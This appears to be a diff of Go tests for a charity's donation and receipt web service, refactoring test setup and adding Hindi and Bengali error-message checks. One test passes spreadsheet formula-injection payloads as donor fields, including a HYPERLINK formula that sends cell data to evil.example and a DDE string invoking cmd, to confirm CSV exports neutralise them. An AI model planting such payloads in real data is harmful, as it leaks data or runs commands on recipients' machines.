@@ -5,54 +5,17 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"fmt"
-	"io"
 	"mime/multipart"
-	"net/http/httptest"
 	"strings"
 	"testing"
 	"time"
 
-	"spdc/internal/config"
 	"spdc/internal/csvout"
 	"spdc/internal/mail"
 	"spdc/internal/outbox/outboxtest"
-	"spdc/internal/secret"
 	"spdc/internal/store"
 	"spdc/internal/store/storetest"
 )
-
-// donationEnv is the forms' test server with a data key, so the donation
-// endpoints work, and the trust's receipt settings filled in.
-func newDonationEnv(t *testing.T, st *store.Store) (*formsEnv, *secret.Key) {
-	t.Helper()
-	e := newFormsEnv(t, st, "office@spdc.example.org")
-	key, _, err := secret.Generate()
-	if err != nil {
-		t.Fatal(err)
-	}
-	cfg, err := config.Load("test", nil, func(string) string { return "" }, io.Discard)
-	if err != nil {
-		t.Fatal(err)
-	}
-	cfg.AdminNotify = "office@spdc.example.org"
-	e.h = NewServer(Deps{Store: st, Config: cfg, Now: func() time.Time { return e.clock }, Secret: key,
-		Mail: mail.NewRenderer(mail.Site{Name: "SPDC", PublicURL: "http://test.local"})})
-	ctx := context.Background()
-	doc, v, err := st.SiteSettings(ctx)
-	if err != nil {
-		t.Fatal(err)
-	}
-	doc["orgName"], doc["receiptPrefix"], doc["trustPan"] = "SPDC Trust", "SPDC", "AAATS1234C"
-	doc["trustLegalName"] = "Sri Prabhupada Disciples Care Trust"
-	doc["addressLines"] = []string{"1 Temple Road", "Vrindavan 281121"}
-	doc["reg80G"] = map[string]any{"number": "AAATS1234CF20211", "date": "2021-05-28", "validUntil": "2026-03-31"}
-	doc["signatory"] = map[string]any{"name": "Ramesh Kumar", "title": "Trustee"}
-	doc["urn"] = map[string]any{"number": "AAATS1234CF20211", "date": "2021-05-28"}
-	if _, err := st.PutSiteSettings(ctx, doc, v, store.Actor{ID: "setup", Email: "setup@example.org"}); err != nil {
-		t.Fatal(err)
-	}
-	return e, key
-}
 
 func validDonation() map[string]any {
 	return map[string]any{
@@ -68,7 +31,7 @@ var refCounter int
 
 func TestDonationReportRules(t *testing.T) {
 	storetest.Run(t, func(t *testing.T, st *store.Store) {
-		e, _ := newDonationEnv(t, st)
+		e := newEnv(t, st, withDonations())
 		set := func(k string, v any) func(map[string]any) { return func(p map[string]any) { p[k] = v } }
 		valid := func() map[string]any {
 			refCounter++
@@ -169,8 +132,8 @@ func TestDonationReportRules(t *testing.T) {
 
 func TestDonationReportThrottled(t *testing.T) {
 	storetest.Run(t, func(t *testing.T, st *store.Store) {
-		e, _ := newDonationEnv(t, st)
-		var last formsResp
+		e := newEnv(t, st, withDonations())
+		var last resp
 		for i := range 12 {
 			p := validDonation()
 			p["reference"] = fmt.Sprintf("%012d", 600000000000+i)
@@ -187,7 +150,7 @@ func TestDonationReportThrottled(t *testing.T) {
 
 func TestDonationNoKey(t *testing.T) {
 	st := storetest.OpenURL(t, "sqlite://"+t.TempDir()+"/spdc.db")
-	e := newFormsEnv(t, st, "")
+	e := newEnv(t, st)
 	if r := e.call("POST", "/api/donations", validDonation(), ""); r.Status != 503 || r.message() != msgDonationNoKey.En() {
 		t.Fatalf("without a key: %d %s", r.Status, r.Raw)
 	}
@@ -198,7 +161,8 @@ func TestDonationNoKey(t *testing.T) {
 // as an admin.
 func TestDonationAdminFlow(t *testing.T) {
 	storetest.Run(t, func(t *testing.T, st *store.Store) {
-		e, key := newDonationEnv(t, st)
+		e := newEnv(t, st, withDonations())
+		key := e.key
 		donor, donorID := e.user("radha@example.org", false)
 		admin, _ := e.user("admin@spdc.example.org", true)
 		report := func(ref string, change func(p map[string]any)) string {
@@ -362,7 +326,7 @@ func TestDonationAdminFlow(t *testing.T) {
 
 func TestDonationStatement(t *testing.T) {
 	storetest.Run(t, func(t *testing.T, st *store.Store) {
-		e, _ := newDonationEnv(t, st)
+		e := newEnv(t, st, withDonations())
 		admin, _ := e.user("admin@spdc.example.org", true)
 		post := func(ref, idType, id, receipt, amount string) string {
 			p := validDonation()
@@ -419,7 +383,7 @@ func TestDonationStatement(t *testing.T) {
 // written as text (a leading apostrophe), the amount stays a number.
 func TestDonationCSVsRunNoFormula(t *testing.T) {
 	storetest.Run(t, func(t *testing.T, st *store.Store) {
-		e, _ := newDonationEnv(t, st)
+		e := newEnv(t, st, withDonations())
 		admin, _ := e.user("admin@spdc.example.org", true)
 		p := validDonation()
 		name, address := `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -474,7 +438,7 @@ func TestDonationCSVsRunNoFormula(t *testing.T) {
 // validity is issued.
 func TestReceiptAllowedOnTheDayReceived(t *testing.T) {
 	storetest.Run(t, func(t *testing.T, st *store.Store) {
-		e, _ := newDonationEnv(t, st)
+		e := newEnv(t, st, withDonations())
 		e.clock = time.Date(2026, 4, 10, 9, 0, 0, 0, time.UTC)
 		admin, _ := e.user("admin@spdc.example.org", true)
 		n := 0
@@ -488,7 +452,7 @@ func TestReceiptAllowedOnTheDayReceived(t *testing.T) {
 			}
 			return r.Body["donation"].(map[string]any)["_id"].(string)
 		}
-		confirm := func(id, receivedOn, lang string) formsResp {
+		confirm := func(id, receivedOn, lang string) resp {
 			return e.callWith("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": receivedOn, "amount": "5000.50"}, admin,
 				map[string]string{"Accept-Language": lang})
 		}
@@ -535,7 +499,8 @@ func TestReceiptAllowedOnTheDayReceived(t *testing.T) {
 // refuses the confirm and takes no number.
 func TestDonationReceiptMailAndPDF(t *testing.T) {
 	storetest.Run(t, func(t *testing.T, st *store.Store) {
-		e, key := newDonationEnv(t, st)
+		e := newEnv(t, st, withDonations())
+		key := e.key
 		mb := outboxtest.NewSealed(t, st, func() time.Time { return e.clock }, key)
 		donor, _ := e.user("radha@example.org", false)
 		other, _ := e.user("someone@example.org", false)
@@ -561,6 +526,19 @@ func TestDonationReceiptMailAndPDF(t *testing.T) {
 		r = e.call("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "5000.50"}, admin)
 		if r.Status != 409 || !strings.Contains(r.message(), "receipt cannot be drawn") {
 			t.Fatalf("confirm without signatory: %d %s", r.Status, r.Raw)
+		}
+		if want := "The receipt cannot be drawn: The authorised signatory's name is missing. The authorised signatory's designation is missing."; r.message() != want {
+			t.Fatalf("confirm without signatory: %q, want %q", r.message(), want)
+		}
+		// The receipt stays English; what stops it is told in the admin's language.
+		for lang, want := range map[string]string{
+			"hi": "यह नहीं दिया गया है: हस्ताक्षर करने वाले अधिकृत व्यक्ति का नाम। यह नहीं दिया गया है: हस्ताक्षर करने वाले अधिकृत व्यक्ति का पद।",
+			"bn": "সই করার অধিকারী ব্যক্তির নাম দেওয়া হয়নি। সই করার অধিকারী ব্যক্তির পদ দেওয়া হয়নি।",
+		} {
+			r = e.callWith("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "5000.50"}, admin, map[string]string{"Accept-Language": lang})
+			if r.Status != 409 || !strings.Contains(r.message(), want) || strings.Contains(r.message(), "signatory") {
+				t.Fatalf("%s: confirm without signatory: %d %s", lang, r.Status, r.message())
+			}
 		}
 		doc, v, _ = st.SiteSettings(ctx)
 		doc["signatory"] = map[string]any{"name": "Ramesh Kumar", "title": "Trustee"}
@@ -675,22 +653,9 @@ func multipartBody(t *testing.T, file string, fields map[string]string) (string,
 	return b.String(), w.FormDataContentType()
 }
 
-func (e *formsEnv) upload(path, token, body, ctype string) formsResp {
-	e.t.Helper()
-	req := httptest.NewRequest("POST", path, strings.NewReader(body))
-	req.Header.Set("Content-Type", ctype)
-	req.Header.Set("Authorization", "Bearer "+token)
-	req.RemoteAddr = e.ip + ":4000"
-	rec := httptest.NewRecorder()
-	e.h.ServeHTTP(rec, req)
-	out := formsResp{Status: rec.Code, Raw: rec.Body.String(), Header: rec.Header()}
-	_ = json.Unmarshal(rec.Body.Bytes(), &out.Body)
-	return out
-}
-
 func TestDonationBankImport(t *testing.T) {
 	storetest.Run(t, func(t *testing.T, st *store.Store) {
-		e, _ := newDonationEnv(t, st)
+		e := newEnv(t, st, withDonations())
 		admin, _ := e.user("admin@spdc.example.org", true)
 		r := e.call("POST", "/api/donations", validDonation(), "")
 		if r.Status != 201 {
